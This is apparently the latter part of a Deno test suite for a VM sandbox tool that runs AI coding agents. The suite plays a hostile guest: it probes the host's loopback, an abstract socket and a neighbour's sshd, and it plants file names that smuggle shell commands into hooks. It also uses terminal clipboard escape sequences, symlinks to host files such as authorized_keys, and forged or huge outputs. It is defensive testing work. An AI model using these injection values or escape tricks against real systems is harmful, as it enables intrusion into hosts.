        "/bin/sh",
        "-c",
        NET_SCRIPT,
        "sh",
        String(loopbackPort),
        abstractName,
        neighbour.host,
        String(neighbour.port),
      ]);
      assert.equal(r.code, 0, show(r));
      // The tricks really ran (tools there, every section reached), so a refusal means something.
      assert.match(r.stdout, /^HAVE-TOOLS$/m, show(r));
      assert.match(r.stdout, /^PROXY=http:\/\/127\.0\.0\.1:3128/m, "no proxy to try through");
      assert.match(r.stdout, /^== done$/m, show(r));
      const section = (name: string) =>
        r.stdout.split(/^== /m).find((x) =>
          x.startsWith(`${name}
`)
        ) ?? "";
      const reached: [string, boolean][] = [
        [NET_TRICKS[0], section("loopback").includes(NET_SECRET)],
        [NET_TRICKS[1], section("abstract").includes(NET_SECRET)],
        [NET_TRICKS[2], /SSH-2\.0|connect=200/.test(section("neighbour"))],
      ];
      const f: Finding[] = reached.filter(([, yes]) => yes).map(([trick]) => ({
        verb: GUEST,
        trick,
        what: `reached from inside the guest (${when}): ${
          JSON.stringify(
            section(
              trick.includes("loop")
                ? "loopback"
                : trick.includes("abstract")
                ? "abstract"
                : "neighbour",
            ).slice(0, 300),
          )
        }`,
      }));
      findings.push(...f);
      assertNone(f);
    }

    it("network: the host's loopback, its abstract socket and the neighbour's sshd are refused", {
      skip: provider !== "sandbox" && NET_SKIP,
    }, () => netTricks("after the plant"));

    it("sync (forged listing, real tar)", async () => {
      const { f } = await verb("sync (forged listing)", () => rig.sync(["sync", ws, "--human"]));
      assertNone(f);
    });

    it("sync --json carries the exact names", async () => {
      const r = await rig.sync(["sync", ws, "--json"]);
      exits.push(`sync --json: exit ${r.code} ${JSON.stringify(r.stderr.slice(-400))}`);
      const f = await check("sync --json", [r], false);
      const sources = r.records.filter((x) => x.kind === "artifact").map((x) => String(x.source));
      for (const n of NAMES) {
        if (!sources.some((s) => s.endsWith(`/output/${n}`))) {
          f.push({
            verb: "sync --json",
            trick: "names: exact in JSON",
            what: `no record for ${JSON.stringify(n)} (exit ${r.code})`,
          });
        }
      }
      findings.push(...f.filter((x) => x.trick === "names: exact in JSON"));
      assertNone(f);
    });

    for (const mode of ["soft", "hard"]) {
      it(`sync (forged tar stream: ${mode} members)`, async () => {
        await guest(`printf ${mode} > /opt/homebrew/share/hostile/tarmode`);
        const { f } = await verb(
          `sync (forged tar, ${mode})`,
          () => rig.sync(["sync", ws, "--human"]),
        );
        await guest(`rm -f /opt/homebrew/share/hostile/tarmode`);
        assertNone(f);
      });
    }

    it("sync (builds/ and test-results/ of the share link to host folders)", async () => {
      await guest(
        PLANT_SHARE_DIRS,
        join(victims, "share-builds"),
        relative(out, join(victims, "share-test-results")),
      );
      const { f } = await verb("sync (share links)", () => rig.sync(["sync", ws, "--human"]));
      assertNone(f);
    });

    it("sync with a huge listing finishes and changes nothing", async () => {
      await guest(`printf 1000000 > /opt/homebrew/share/hostile/huge`);
      const { r, f } = await verb("sync (huge listing)", () => rig.sync(["sync", ws, "--human"]));
      await guest(`rm -f /opt/homebrew/share/hostile/huge`);
      // A million-character name must not come back whole on the terminal.
      if (r.stdout.length + r.stderr.length > 200_000) {
        const x = {
          verb: "sync (huge listing)",
          trick: "huge listing",
          what: `${r.stdout.length + r.stderr.length} characters printed`,
        };
        findings.push(x), f.push(x);
      }
      assertNone(f);
    });

    it("watch (bounded): hooks run only on paths inside the output folder", async () => {
      const hook = `printf '%s\\0' {} >> ${hookLog()}`;
      const child = new Deno.Command(Deno.execPath(), {
        args: [
          "run",
          "-A",
          "--quiet",
          join(REPO, "commands", "cal-sync.ts"),
          "watch",
          ws,
          "--on-any",
          hook,
          // The README's own example: the hook's output goes to the terminal.
          "--on-ipa",
          'echo "HOOK:{}"',
          "--debounce",
          "300",
          "--human",
        ],
        env: { ...rig.env, NO_COLOR: "1", DENO_DIR: await getDenoDir() },
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      const stdout = new Response(child.stdout).text();
      let errText = "";
      const stderr = (async () => {
        for await (const c of child.stderr.pipeThrough(new TextDecoderStream())) errText += c;
        return errText;
      })();
      const hooked = async () =>
        (await Deno.readTextFile(hookLog()).catch(() => "")).split("\0").filter(Boolean);
      // The watch is up once it has said so; only then are new artifacts new.
      const up = Date.now() + 30_000;
      while (Date.now() < up && !errText.includes("Watching")) {
        await new Promise((r) => setTimeout(r, 100));
      }
      // Past its first scan (what is there counts as seen) once a probe's hook has run; a
      // probe the first scan took as seen is rewritten, which makes it new again.
      const probe = join(out, "aa-probe.ipa");
      for (let i = 0; Date.now() < up && !(await hooked()).includes(probe); i++) {
        if (i % 20 === 0) await Deno.writeTextFile(probe, `probe ${i}`);
        await new Promise((r) => setTimeout(r, 100));
      }
      await guest(WATCH_WRITES, victims);
      const end = Date.now() + 45_000;
      while (Date.now() < end && !(await hooked()).some((p) => p.endsWith("zz-sentinel.ipa"))) {
        await new Promise((r) => setTimeout(r, 200));
      }
      child.kill("SIGTERM");
      const status = await child.status;
      const r: CalResult = {
        code: status.code,
        stdout: await stdout,
        stderr: await stderr,
        records: [],
      };
      exits.push(`watch: exit ${r.code}, hooks on ${JSON.stringify(await hooked())}`);
      // The echo hook's lines are the user's program printing a name; cal's own lines apart.
      const lines = r.stdout.split("\n");
      const echoed = lines.filter((l) => l.startsWith("HOOK:")).join("\n");
      r.stdout = lines.filter((l) => !l.startsWith("HOOK:")).join("\n");
      const f = await check("watch", [r]);
      if (echoed.includes(INJECTED)) {
        f.push({
          verb: "watch",
          trick: INJECT_TRICK,
          what: "a hook ran a guest file name as shell code",
        });
        findings.push(f[f.length - 1]);
      }
      if (rawControls(echoed).length) {
        f.push({
          verb: "watch",
          trick: "names: a hook like the README's `echo {}` prints them to the terminal",
          what: `raw control characters on the terminal: ${rawControls(echoed).join(" ")}`,
        });
        findings.push(f[f.length - 1]);
      }
      const paths = await hooked();
      const extra: Finding[] = [];
      if (!paths.some((p) => p.endsWith("zz-sentinel.ipa"))) {
        extra.push({ verb: "watch", trick: "(none)", what: "the sentinel's hook never ran" });
      }
      // The shell-syntax names reached the hooks (as one argument each, unchanged).
      for (const n of ["$(echo", "`echo", "'; echo", '"; echo']) {
        if (!paths.some((p) => p.includes(`/w-${n} INJECTED-$((6*7))`))) {
          extra.push({ verb: "watch", trick: INJECT_TRICK, what: `no hook ran on the ${n} name` });
        }
      }
      const real = await Deno.realPath(out);
      for (const p of paths) {
        const st = await Deno.lstat(p).catch(() => undefined);
        const rp = await Deno.realPath(p).catch(() => p);
        if (st?.isSymlink || !rp.startsWith(real + "/")) {
          extra.push({
            verb: "watch",
            trick: "share: a new artifact links to a host file",
            what: `a hook ran on ${JSON.stringify(p)} (really ${JSON.stringify(rp)})`,
          });
        }
      }
      findings.push(...extra);
      assertNone([...f, ...extra]);
    });

    it("logs (human and JSON)", async () => {
      const h = await verb("logs", () => rig.sync(["logs", ws, "--human"]));
      const j = await rig.sync(["logs", ws, "--json"]);
      const f = [...h.f, ...await check("logs --json", [j], false)];
      const lines = j.records.map((x) => String(x.line));
      if (!lines.some((l) => l.includes("\x1b]52;c;aGk=\x07"))) {
        const x = {
          verb: "logs --json",
          trick: "names: exact in JSON",
          what: `the escaped log line is not carried exactly (exit ${j.code})`,
        };
        findings.push(x), f.push(x);
      }
      assertNone(f);
    });

    it("disk-usage, status, health, list, ip and the network's show and log", async () => {
      const f = [
        ...(await verb("disk-usage", () => rig.snap(["disk-usage", ws, "--human"]))).f,
        ...(await verb("status", () => rig.vm(["status", ws, "--human"]))).f,
        ...(await verb("health", () => rig.vm(["health", ws, "--human"]))).f,
        ...(await verb("list", () => rig.vm(["list", "--human"]))).f,
        ...(await verb("ip", () => rig.vm(["ip", ws, "--human"]))).f,
        ...(await verb("net show", () => rig.vm(["net", "show", ws, "--human"]))).f,
        ...(await verb("net log", () => rig.vm(["net", "log", ws, "--human"]))).f,
      ];
      assertNone(f);
    });

    it("agent list and configure (agents' files through ~/.claude.json and ~/.cal-agents links)", async () => {
      const f = [
        ...(await verb("agent list", async () => {
          const r = await rig.agent(["list", ws, "--human"]);
          // The trick is live: the stand-in's version (escapes and all) reached cal's table.
          assert.match(r.stdout, /0\.1\.0/, show(r));
          return r;
        })).f,
        ...(await verb(
          "agent configure",
          () => rig.agent(["configure", ws, "claude-code", "--human"]),
        )).f,
      ];
      assertNone(f);
    });

    it("agent list (an agent's --version answers 600 MB)", async () => {
      await guest(`printf 1 > /opt/homebrew/share/hostile/huge-version`);
      const { r, f } = await verb(
        "agent list (huge --version)",
        () => rig.agent(["list", ws, "--human"]),
      );
      await guest(`rm -f /opt/homebrew/share/hostile/huge-version`);
      // The version is the guest's text: read within a bound, never cal falling over on it.
      const printed = r.stdout.length + r.stderr.length;
      if (/bug in cal|Invalid string length/.test(r.stderr) || printed > 200_000) {
        const x = {
          verb: "agent list (huge --version)",
          trick: "agent: a huge --version answer",
          what: `exit ${r.code}, ${printed} characters: ${JSON.stringify(r.stderr.slice(0, 200))}`,
        };
        findings.push(x), f.push(x);
      }
      assertNone(f);
    });

    it("snapshot create", async () => {
      const { f } = await verb(
        "snapshot create",
        () => rig.snap(["create", ws, "--name", "s1", "--human"]),
      );
      await ensureRunning();
      const l = await verb("snapshot list", () => rig.snap(["list", ws, "--human"]));
      assertNone([...f, ...l.f]);
    });

    it("stop, then start (~/.ssh links to a host folder)", async () => {
      const s = await verb("stop", () => rig.vm(["stop", ws, "--human"]));
      const t = await verb("start", () => rig.vm(["start", ws, "--human"]));
      await ensureRunning();
      assertNone([...s.f, ...t.f]);
    });

    it("start again (~/.ssh/authorized_keys links to a host file)", async () => {
      await guest(PLANT_AK, victims);
      const s = await verb("stop (2)", () => rig.vm(["stop", ws, "--human"]));
      const t = await verb("start (2)", () => rig.vm(["start", ws, "--human"]));
      await ensureRunning();
      assertNone([...s.f, ...t.f]);
    });

    it("network: still refused after a restart", {
      skip: provider !== "sandbox" && NET_SKIP,
    }, () => netTricks("after stop and start"));

    it("run (a headless stand-in agent)", async () => {
      const args = [
        "run",
        ws,
        "--agent",
        "claude-code",
        "--prompt",
        "hi",
        "--yes",
      ];
      const env = { env: { ANTHROPIC_API_KEY: "sk-test-hostile" } };
      const first = await verb("run", () => rig.agent([...args, "--human"], env));
      const f = [...first.f];
      let r = first.r;
      // Where cal's proxy cannot keep the key on the host (the tart provider for now), the run
      // stops before the guest; with the (test) key passed it reaches the stand-in agent.
      if (r.code === 2 && r.stderr.includes("--pass-key")) {
        const passed = await verb(
          "run (--pass-key)",
          () => rig.agent([...args, "--pass-key", "--human"], env),
        );
        f.push(...passed.f);
        r = passed.r;
      }
      assertNone(f);
      assert.equal(r.code, 0, `run never reached the stand-in agent\n${show(r)}`);
    });

    it("rollback to the run's session-start snapshot (first refused: the forged unsaved work)", async () => {
      const refused = await verb(
        "rollback (unsaved work)",
        () => rig.snap(["rollback", ws, "--human"]),
      );
      const forced = await verb("rollback", () => rig.snap(["rollback", ws, "--force", "--human"]));
      await ensureRunning();
      assertNone([...refused.f, ...forced.f]);
    });

    it("snapshot restore (the look for unsaved work answered with 600 MB by sh, 8 MB by dirname)", async () => {
      await guest(`printf 1 > /opt/homebrew/share/hostile/huge-sh`);
      const { r, f } = await verb(
        "snapshot restore (huge unsaved-work answer)",
        () => rig.snap(["restore", ws, "--name", "s1", "--human"]),
      );
      await guest(`rm -f /opt/homebrew/share/hostile/huge-sh`);
      // Refused (the look failed or found the forged work), never cal falling over or
      // printing what the guest sent whole.
      const printed = r.stdout.length + r.stderr.length;
      if (r.code === 0 || /bug in cal|Invalid string length/.test(r.stderr) || printed > 200_000) {
        const x = {
          verb: "snapshot restore (huge unsaved-work answer)",
          trick: "forged sh: a huge answer to the unsaved-work look",
          what: `exit ${r.code}, ${printed} characters: ${JSON.stringify(r.stderr.slice(0, 300))}`,
        };
        findings.push(x), f.push(x);
      }
      assertNone(f);
    });

    it("snapshot restore (first refused: the forged unsaved work)", async () => {
      const refused = await verb(
        "snapshot restore (unsaved work)",
        () => rig.snap(["restore", ws, "--name", "s1", "--human"]),
      );
      assertNone(refused.f);
      const { f } = await verb(
        "snapshot restore",
        () => rig.snap(["restore", ws, "--name", "s1", "--force", "--human"]),
      );
      await ensureRunning();
      assertNone(f);
    });

    it("snapshot delete", async () => {
      const { f } = await verb(
        "snapshot delete",
        () => rig.snap(["delete", ws, "--name", "s1", "--human"]),
      );
      assertNone(f);
    });

    it("cleanup", async () => {
      const f = [
        ...(await verb("cleanup", () => rig.vm(["cleanup", "--human"]))).f,
        ...(await verb("snapshot cleanup", () => rig.snap(["cleanup", ws, "--human"]))).f,
      ];
      assertNone(f);
    });

    it("destroy", async () => {
      const { f } = await verb(
        "destroy",
        () => rig.vm(["destroy", ws, "--yes", "--force", "--human"]),
      );
      assertNone(f);
    });

    it("the victims are as they were made", async () => {
      // Against the first look, not the last: a change any verb made, still there at the end.
      const f: Finding[] = [];
      for (const v of VICTIMS) {
        const now = await fingerprint(join(victims, v.path));
        if (now !== first.get(v.path)) {
          f.push({ verb: "(end)", trick: v.trick, what: `${v.path} is now ${now}` });
        }
      }
      assertNone(f);
    });
  });
}

for (const p of PROVIDERS) suite(p);
